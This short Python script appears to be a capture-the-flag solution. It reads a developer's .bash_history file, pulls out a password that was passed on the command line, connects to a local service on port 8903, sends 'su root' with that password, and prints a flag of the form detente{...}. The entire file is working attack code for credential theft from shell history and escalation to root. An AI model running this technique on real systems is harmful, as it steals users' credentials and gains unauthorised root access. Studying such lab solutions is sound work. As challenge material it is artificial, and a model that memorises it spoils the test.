import re
def flag(text):
    print(re.search(r'detente\{[0-9a-f]{24}\}', text).group(0))

import socket
hist = open("/work/home/dev/.bash_history").read()
password = re.search(r"-p'([^']+)'", hist).group(1)
s = socket.create_connection(("127.0.0.1", 8903))
f = s.makefile("rw")
f.readline()
f.write("su root " + password + "\n"); f.flush()
flag(f.readline())
